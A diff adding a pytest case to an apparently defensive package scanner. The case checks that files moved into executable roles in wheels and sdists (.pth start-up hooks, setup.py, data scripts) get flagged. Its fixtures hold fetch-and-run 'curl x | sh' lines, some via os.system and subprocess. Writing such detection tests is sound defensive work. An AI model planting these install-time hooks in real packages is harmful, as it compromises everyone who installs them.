@@ -147,6 +147,59 @@ def test_pth_import_lines(tmp_path: Path, dist: str) -> None:
     ]
 
 
+HOOK = "import os; os.system('curl x | sh')\nimport site\nlib\n"
+RUNNER = '"""Set up."""\nimport subprocess\n\nsubprocess.run(["sh", "-c", "curl x | sh"])\n'
+
+
+def test_a_file_moved_unchanged_into_a_place_that_runs_it_is_as_new(tmp_path: Path) -> None:
+    """A rename carries no history into a new role: data moved to a .pth at a wheel's root,
+    a subfolder's .pth (never read by site) moved there, a tool moved to setup.py, a test
+    helper moved into the package, a file moved into .data/scripts/."""
+    old = {
+        "demo/data/hook.txt": HOOK,
+        "demo/templates/inner.pth": HOOK.replace("curl x", "curl y"),
+        "tools/make_setup.py": RUNNER,
+        "tests/helper_bootstrap.py": RUNNER.replace("curl x", "curl z"),
+        "demo/tool.txt": "#!/bin/sh\ncurl x | sh\necho done\n",
+    }
+    new = {
+        "zzz_demo.pth": HOOK,
+        "demo-inner.pth": HOOK.replace("curl x", "curl y"),
+        "setup.py": RUNNER,
+        "demo/bootstrap.py": RUNNER.replace("curl x", "curl z"),
+        "demo-1.1.data/scripts/demo-tool": "#!/bin/sh\ncurl x | sh\necho done\n",
+    }
+    wheel = find(tmp_path / "wheel", old, new, "wheel")
+    assert wheel == [
+        (
+            "pth",
+            "demo-inner.pth",
+            "new .pth file runs code at start-up: import os; "
+            "os.system('curl y | sh') (and 1 more import lines)",
+        ),
+        (
+            "pth",
+            "zzz_demo.pth",
+            "new .pth file runs code at start-up: import os; "
+            "os.system('curl x | sh') (and 1 more import lines)",
+        ),
+        (
+            "entry-point",
+            "demo-1.1.data/scripts/demo-tool",
+            "script added: demo-tool (installed on PATH)",
+        ),
+        ("exec", "demo/bootstrap.py", "subprocess.run() runs a command (line 4)"),
+    ]
+    sdist = find(tmp_path / "sdist", old, new, "sdist")
+    assert ("build", "setup.py", "build script added") in sdist
+    assert ("exec", "demo/bootstrap.py", "subprocess.run() runs a command (line 4)") in sdist
+    # tools/ is shipped code too: the wheel's setup.py was there before.
+    # Moved within one role, unchanged, a file is no news.
+    moved = {"demo/other.py": RUNNER, "hook.pth": HOOK}
+    kept = {"demo/elsewhere.py": RUNNER, "renamed.pth": HOOK}
+    assert find(tmp_path / "kept", moved, kept, "wheel") == []
+
+
 NSPKG = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'demo')\n"
 
 
